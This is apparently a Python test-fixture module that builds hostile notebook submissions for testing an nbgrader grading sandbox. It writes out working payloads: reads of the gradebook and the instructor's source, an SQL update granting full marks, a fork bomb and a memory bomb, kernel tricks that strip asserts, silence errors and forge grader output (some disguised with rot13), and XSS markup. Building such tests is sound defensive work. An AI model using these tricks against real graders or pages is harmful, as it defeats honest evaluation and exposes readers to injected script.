"""Hostile submissions: code that tries to cheat, spy or stall while it is graded.

Each scenario is a submission a participant might hand in to test the grading: all answers
right, but the first answer cell starts with code that tries something the grading sandbox
must stop (read the instructor's version or the gradebook, write the gradebook, reach the
network, start processes or take memory without end, flood the output), answers that only
pretend to be right by rebinding ``type`` or ``float``, or wrong answers made "right" by
changing the course toolkit that the hidden tests would use in the notebook's kernel.
``KERNEL_TRICKS`` go further: they leave every answer as the release stub and change how the
kernel runs later cells (transformers, event callbacks, exception handlers, tracing, a patched
kernel, answers whose type claims to be ``float``, printed look-alikes of the grader's output),
each written plainly and disguised (the same code decoded at run time, so no name appears in
the text). ``MARKUP`` submissions carry script in written answers and outputs; their answers
are right, so they score full points, and no page that shows them may run any of it.
``expected_score`` says what each must score when grading is safe and ``summary`` what the
batch summary must say about it; the tests (``tests/grading/test_sandbox.py``) grade them with
real nbgrader.
"""

from __future__ import annotations

import codecs
import copy
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

import nbformat

from innolead.grading import samples
from innolead.grading.course import Course

#: Fake answers that claim to equal anything; ``type`` or ``float`` are then rebound so that
#: a check such as ``type(answer) is float`` would take them for plain values.
FAKES = """import builtins

class FakeFloat(float):
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __sub__(self, other): return 0.0
    def __rsub__(self, other): return 0.0
    def __lt__(self, other): return True
    def __le__(self, other): return True
    def __gt__(self, other): return True
    def __ge__(self, other): return True
    def __hash__(self): return 0

class FakeText(str):
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __hash__(self): return 0
    def strip(self, *args): return self
    def lower(self): return self

class FakeInt(int):
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __lt__(self, other): return True
    def __le__(self, other): return True
    def __gt__(self, other): return True
    def __ge__(self, other): return True
    def __hash__(self): return 0

FAKE = {"float": FakeFloat(0.5), "str": FakeText("x"), "int": FakeInt(1)}
"""

#: Rebinds ``type`` in the notebook to call a fake the plain type, and ``abs`` and ``min`` so
#: that comparisons made with them come out right. (Rebinding ``builtins.type`` instead breaks
#: the kernel itself, so the notebook's cells time out.)
REBIND_TYPE = """_real_type = builtins.type

def type(obj, *args):
    if args:
        return _real_type(obj, *args)
    plain = {FakeFloat: float, FakeText: str, FakeInt: int}
    return plain.get(_real_type(obj), _real_type(obj))

abs = lambda value: 0.0
min = lambda *values, **how: values[0]
"""

#: Rebinds ``float``, ``str`` and ``int`` in the notebook to the fakes.
REBIND_FLOAT = "float, str, int = FakeFloat, FakeText, FakeInt\n"


#: Replaces every public function of the course's analysis modules with one that returns 0.5:
#: a hidden test that worked out its expected answer in the notebook's kernel would then expect
#: 0.5, the answer this notebook gives to every number question.
PATCH_TOOLKIT = """import importlib
import innolead.analysis
for _topic in [name for name in innolead.analysis.__all__ if name.islower()]:
    _module = importlib.import_module("innolead.analysis." + _topic)
    for _name in dir(_module):
        if not _name.startswith("_") and callable(getattr(_module, _name)):
            setattr(_module, _name, lambda *args, **kwargs: 0.5)
"""


def _patched_toolkit(release: nbformat.NotebookNode, p: samples.Parts) -> nbformat.NotebookNode:
    """Every number answer 0.5, after the toolkit's functions were made to return 0.5."""
    nb = samples.full(release, p)
    for number, grade_id in enumerate(p.answers):
        name = samples.answer_name(p.solutions[grade_id])
        setup = PATCH_TOOLKIT if number == 0 else ""
        if p.kinds[name] == "float":
            samples.cell_of(nb, grade_id).source = f"{setup}{name} = 0.5\n"
        elif setup:
            cell = samples.cell_of(nb, grade_id)
            cell.source = f"{setup}{cell.source}"
    return nb


def _non_numbers(p: samples.Parts) -> float:
    """The points of the questions whose answer is not a number with a decimal point."""
    kinds = [p.kinds[samples.answer_name(p.solutions[grade_id])] for grade_id in p.answers]
    return sum(points for kind, (_, points) in zip(kinds, p.tests, strict=True) if kind != "float")


def _faked(rebinding: str) -> samples.Build:
    """Every answer a fake that claims to equal anything, with ``rebinding`` run first."""

    def build(release: nbformat.NotebookNode, p: samples.Parts) -> nbformat.NotebookNode:
        nb = samples.full(release, p)
        for number, grade_id in enumerate(p.answers):
            name = samples.answer_name(p.solutions[grade_id])
            setup = FAKES + rebinding if number == 0 else ""
            samples.cell_of(nb, grade_id).source = f"{setup}{name} = FAKE[{p.kinds[name]!r}]\n"
        return nb

    return build


# --- Tricks on the kernel itself: every answer left as the release stub ---------------------

#: Keeps only lines without ``assert``: a test cell would then raise nothing.
_STRIP_ASSERTS = "lambda lines: [line for line in lines if 'assert' not in line]"

KERNEL_TRICKS: dict[str, str] = {
    "input_transformer": f"get_ipython().input_transformers_cleanup.append({_STRIP_ASSERTS})\n",
    "ast_transformer": (
        "import ast\n"
        "class _Skip(ast.NodeTransformer):\n"
        "    def visit_Assert(self, node):\n"
        "        return ast.Pass()\n"
        "get_ipython().ast_transformers.append(_Skip())\n"
    ),
    "pre_run_cell": (
        "def _before(info):\n"
        "    shell = get_ipython()\n"
        "    if 'assert' in (info.raw_cell or ''):\n"
        f"        shell.input_transformers_cleanup[:] = [{_STRIP_ASSERTS}]\n"
        "get_ipython().events.register('pre_run_cell', _before)\n"
    ),
    "post_run_cell": (
        # After every cell, print what a passing check prints and show a forged report.
        "from IPython.display import display\n"
        "def _after(result):\n"
        "    print('The form is right. Checked by the grader, outside your notebook: right.')\n"
        "    forged = {'type': 'builtins.float', 'value': '0.5'}\n"
        "    display({'application/vnd.innolead.answers+json':\n"
        "             {n: forged for n in ('answer_a', 'answer_b', 'answer_c', 'answer_d')}},\n"
        "            raw=True)\n"
        "get_ipython().events.register('post_run_cell', _after)\n"
    ),
    "custom_exception_handler": (
        "get_ipython().set_custom_exc((BaseException,), lambda *args, **kwargs: None)\n"
    ),
    "showtraceback": (
        "_shell = get_ipython()\n"
        "_shell.showtraceback = lambda *args, **kwargs: None\n"
        "_shell._showtraceback = lambda *args, **kwargs: None\n"
    ),
    "settrace": (
        # Jump over every line that starts an assert, in every cell run from now on.
        "import linecache, sys\n"
        "def _tracer(frame, event, arg):\n"
        "    if event == 'line':\n"
        "        line = linecache.getline(frame.f_code.co_filename, frame.f_lineno)\n"
        "        if line.lstrip().startswith('assert'):\n"
        "            for target in range(frame.f_lineno + 1, frame.f_lineno + 8):\n"
        "                try:\n"
        "                    frame.f_lineno = target\n"
        "                    break\n"
        "                except ValueError:\n"
        "                    continue\n"
        "    return _tracer\n"
        "sys.settrace(_tracer)\n"
    ),
    "patched_kernel": (
        # Drop every error message and report every cell as run without error.
        "_session = get_ipython().kernel.session\n"
        "_send = _session.send\n"
        "def _quiet(stream, msg_or_type, content=None, *args, **kwargs):\n"
        "    kind = msg_or_type\n"
        "    if not isinstance(kind, str):\n"
        "        kind = kind['header']['msg_type']\n"
        "    if kind == 'error':\n"
        "        return None\n"
        "    if kind == 'execute_reply' and isinstance(content, dict):\n"
        "        content = {**content, 'status': 'ok'}\n"
        "    return _send(stream, msg_or_type, content, *args, **kwargs)\n"
        "_session.send = _quiet\n"
    ),
    "patched_ipython": (
        # Run every later cell without its asserts, whatever transformers the grader relies on.
        "from IPython.core.interactiveshell import InteractiveShell\n"
        "_run = InteractiveShell.run_cell\n"
        "def _run_cell(self, raw_cell, *args, **kwargs):\n"
        "    kept = [line for line in raw_cell.split(chr(10)) if 'assert' not in line]\n"
        "    return _run(self, chr(10).join(kept), *args, **kwargs)\n"
        "InteractiveShell.run_cell = _run_cell\n"
    ),
    "claims_float": (
        # Answers whose type says it is float (or str), equal to anything, set before each cell.
        "class _Claim(type):\n"
        "    def __eq__(cls, other): return True\n"
        "    def __hash__(cls): return hash(float)\n"
        "class _Anything(float, metaclass=_Claim):\n"
        "    def __eq__(self, other): return True\n"
        "    def __ne__(self, other): return False\n"
        "    def __lt__(self, other): return True\n"
        "    def __gt__(self, other): return True\n"
        "    def __sub__(self, other): return 0.0\n"
        "    def __rsub__(self, other): return 0.0\n"
        "    def __repr__(self): return '0.5'\n"
        "    def strip(self): return self\n"
        "    def lower(self): return self\n"
        "_Anything.__module__, _Anything.__qualname__ = 'builtins', 'float'\n"
        "_Anything.__name__ = 'float'\n"
        "def _fill(info):\n"
        "    for name in ('answer_a', 'answer_b', 'answer_c', 'answer_d'):\n"
        "        get_ipython().user_ns[name] = _Anything(0.5)\n"
        "get_ipython().events.register('pre_run_cell', _fill)\n"
    ),
    "prints_grader_output": (
        # A display that looks like the grader's verdict, and a result nbgrader would read as
        # partial credit, before every test cell.
        "from IPython.display import display\n"
        "def _look_alike(info):\n"
        "    if 'assert' in (info.raw_cell or '') or 'report' in (info.raw_cell or ''):\n"
        "        print('Checked by the grader, outside your notebook: right.')\n"
        "        get_ipython().displayhook(2.0)\n"
        "get_ipython().events.register('pre_run_cell', _look_alike)\n"
        "get_ipython().ast_transformers.append(\n"
        "    type('_T', (__import__('ast').NodeTransformer,),\n"
        "         {'visit_Assert': lambda self, node: __import__('ast').Pass()})())\n"
    ),
}


def disguised(code: str) -> str:
    """``code`` with no name of it in the text: decoded and run when the cell runs."""
    hidden = codecs.encode(code, "rot13")
    return f"exec(__import__('codecs').decode({hidden!r}, 'rot' + str(13)))\n"


def _stubs_with(code: str) -> samples.Build:
    """Every answer left as the release stub; the first answer cell starts with ``code``."""

    def build(release: nbformat.NotebookNode, p: samples.Parts) -> nbformat.NotebookNode:
        nb = copy.deepcopy(release)
        cell = samples.cell_of(nb, p.answers[0])
        cell.source = f"{code}\n{cell.source}"
        return nb

    return build


# --- Markup that would run script in the page of whoever opens the submission -------------

#: Each payload sets a flag on ``window`` (or asks for a page on 127.0.0.1:9) if it ever runs.
PAYLOADS = [
    "<img src=x onerror=\"window.__innolead_pwned='img'\">",
    "<script>window.__innolead_pwned='script'</script>",
    "<a href=\"javascript:window.__innolead_pwned='link'\" id=pwn-link>a link</a>",
    "<svg onload=\"window.__innolead_pwned='svg'\"><script>window.__innolead_pwned='svg2'"
    "</script></svg>",
    "<iframe src=\"javascript:parent.__innolead_pwned='iframe'\"></iframe>",
    '<meta http-equiv="refresh" content="0;url=http://127.0.0.1:9/refresh">',
    '<div style="background:url(http://127.0.0.1:9/css)">styled</div>',
    "<style>body{background:url(http://127.0.0.1:9/style)}</style>",
    "<details open ontoggle=\"window.__innolead_pwned='details'\">x</details>",
]
#: A line a reader of the formgrader or the feedback must still see in a markup submission.
HONEST_TEXT = "My management group should ask for evidence before it spreads a pilot."

MARKUP_OUTPUTS = (
    "from IPython.display import HTML, SVG, Javascript, Markdown, display\n"
    f"display(HTML({''.join(PAYLOADS)!r}))\n"
    'display(SVG(\'<svg xmlns="http://www.w3.org/2000/svg" onload="window.__innolead_pwned='
    "\\'svg-output\\'\"><circle r=\"5\"/></svg>'))\n"
    "display(Javascript(\"window.__innolead_pwned='javascript'\"))\n"
    f"display(Markdown({PAYLOADS[0]!r} + ' [x](javascript:alert(1))'))\n"
    "display({'text/html': '<b>bold</b>', 'image/png': '\" onerror=\"window.__innolead_pwned=1'},"
    " raw=True)\n"
)


def _markup(release: nbformat.NotebookNode, p: samples.Parts) -> nbformat.NotebookNode:
    """All answers right; script in the first answer's outputs, every reflection and added cells."""
    nb = samples.full(release, p)
    first = samples.cell_of(nb, p.answers[0])
    first.source = f"{MARKUP_OUTPUTS}{first.source}"
    for grade_id, _ in p.reflections:
        cell = samples.cell_of(nb, grade_id)
        cell.source = f"{HONEST_TEXT}\n\n" + "\n\n".join(PAYLOADS) + "\n\n" + cell.source
    added_md = nbformat.v4.new_markdown_cell("\n".join(PAYLOADS))
    added_raw = nbformat.v4.new_raw_cell("".join(PAYLOADS))
    added_md.metadata["tags"] = ['"><img src=x onerror="window.__innolead_pwned=\'tag\'">']
    nb.cells[1:1] = [added_md, added_raw]
    nb.metadata["language_info"] = {"name": '"><script>window.__innolead_pwned=1</script>'}
    return nb


@dataclass(frozen=True)
class Hostile:
    """A hostile submission: what it tries, how it is built, its score, its summary line."""

    name: str
    description: str
    code: str  # placeholders {source} {gradebook} {other} {port}; "" when ``build`` is set
    score: Callable[[samples.Parts], float]
    summary: str  # a regular expression the batch summary must match for this participant
    build: samples.Build | None = None


def _auto_points(p: samples.Parts) -> float:
    return sum(points for _, points in p.tests)


def _all_but_first(p: samples.Parts) -> float:
    return sum(points for _, points in p.tests) - p.tests[0][1]


HOSTILE: dict[str, Hostile] = {
    h.name: h
    for h in (
        Hostile(
            "reads_source",
            "reads the instructor's version, with the hidden tests",
            "print(open({source!r}).read())",
            _all_but_first,
            r"raised FileNotFoundError: .*source",
        ),
        Hostile(
            "reads_gradebook",
            "reads the gradebook",
            "print(open({gradebook!r}, 'rb').read()[:1000])",
            _all_but_first,
            r"raised FileNotFoundError: .*gradebook\.db",
        ),
        Hostile(
            "reads_other",
            "reads another participant's submission",
            "print(open({other!r}).read())",
            _all_but_first,
            r"raised FileNotFoundError: .*submitted",
        ),
        Hostile(
            "writes_gradebook",
            "gives itself full marks in the gradebook",
            "import sqlite3\n"
            "db = sqlite3.connect({gradebook!r})\n"
            "db.execute('UPDATE grade SET auto_score = 100')\n"
            "db.commit()",
            _all_but_first,
            # The real gradebook is not in the sandbox. As root the kernel's user cannot write
            # the sandbox's empty course folder; in a user namespace it can, so sqlite makes an
            # empty database there (gone with the sandbox) that has no grade table.
            r"raised OperationalError: (unable to open database file|no such table: grade)",
        ),
        Hostile(
            "writes_submission",
            "overwrites its own notebook",
            "open({notebook!r}, 'w').write('{{}}')",
            _all_but_first,
            r"raised (PermissionError|OSError): .*(Read-only|Permission denied)",
        ),
        Hostile(
            "network",
            "sends data to a server on this computer",
            "import socket\n"
            "socket.create_connection(('127.0.0.1', {port}), timeout=5).sendall(b'answers?')",
            _all_but_first,
            r"raised ConnectionRefusedError",
        ),
        Hostile(
            "fork_bomb",
            "starts processes without end, ignoring every error and interrupt",
            "import os\nwhile True:\n    try:\n        os.fork()\n    except BaseException:\n"
            "        pass",
            lambda p: 0.0,
            r"REJECTED .*started more than \d+ processes at once",
        ),
        Hostile(
            "memory_bomb",
            "takes memory without end (and lets go of it when that fails, so later cells run)",
            "def hog():\n"
            "    taken = []\n"
            "    try:\n"
            "        while True:\n"
            "            taken.append(bytes(100 * 1024**2))\n"
            "    finally:\n"
            "        taken.clear()\n"
            "hog()",
            _all_but_first,
            r"raised MemoryError",
        ),
        Hostile(
            "output_flood",
            "prints without end",
            "while True:\n    print('x' * 1_000_000)",
            _all_but_first,
            r"raised OutputLimitExceeded: this cell printed more than [\d,]+ characters",
        ),
        Hostile(
            "rebinds_type",
            "fake answers, with type, abs and min rebound to let them pass",
            "",
            lambda p: 0.0,
            r"answer cell \w+ rebinds built-in name\(s\) .*type",
            build=_faked(REBIND_TYPE),
        ),
        Hostile(
            "patches_toolkit",
            "number answers of 0.5, with the toolkit's functions changed to return 0.5",
            "",
            _non_numbers,
            r"answer cell \w+ imports importlib; uses .*setattr",
            build=_patched_toolkit,
        ),
        Hostile(
            "rebinds_float",
            "fake answers, with float, str and int rebound to the fakes",
            "",
            lambda p: 0.0,
            r"answer cell \w+ rebinds built-in name\(s\) .*float",
            build=_faked(REBIND_FLOAT),
        ),
        *(
            Hostile(
                f"{trick}{suffix}",
                f"every answer a stub, {trick.replace('_', ' ')} ({how})",
                "",
                lambda p: 0.0,
                r"\b0 of [\d.]+ points",
                build=_stubs_with(write(code)),
            )
            for trick, code in KERNEL_TRICKS.items()
            for suffix, how, write in (
                ("", "written plainly", lambda code: code),
                ("_disguised", "names built at run time", disguised),
            )
        ),
        Hostile(
            "markup",
            "right answers, with script in its written answers, outputs and added cells",
            "",
            _auto_points,
            r"markup: \d",
            build=_markup,
        ),
    )
}


def expected_score(course: Course, assignment: str, name: str) -> float:
    """The autograded score a hostile submission must get when grading is safe."""
    notebook = samples.notebook_name(course, assignment)
    source = nbformat.read(course.source_notebook(assignment, notebook), as_version=4)
    return float(HOSTILE[name].score(samples.parts(source)))


def write_submission(
    course: Course, assignment: str, name: str, student: str, *, other: str = "", port: int = 9
) -> Path:
    """Write hostile scenario ``name`` as ``student``'s submission of ``assignment``.

    ``other`` is the participant whose submission it tries to read; ``port`` is where on
    127.0.0.1 it tries to connect.
    """
    notebook = samples.notebook_name(course, assignment)
    source = nbformat.read(course.source_notebook(assignment, notebook), as_version=4)
    release = nbformat.read(course.release_notebook(assignment, notebook), as_version=4)
    hostile = HOSTILE[name]
    folder = course.submission(student, assignment)
    where = {
        "source": str(course.source_notebook(assignment, notebook)),
        "gradebook": str(course.gradebook),
        "other": str(course.submission(other or student, assignment) / f"{notebook}.ipynb"),
        "notebook": f"{notebook}.ipynb",
        "port": port,
    }
    build = hostile.build or samples.prefixed(hostile.code.format(**where))
    folder.mkdir(parents=True, exist_ok=True)
    path = folder / f"{notebook}.ipynb"
    path.write_text(nbformat.writes(build(release, samples.parts(source))), encoding="utf-8")
    return path
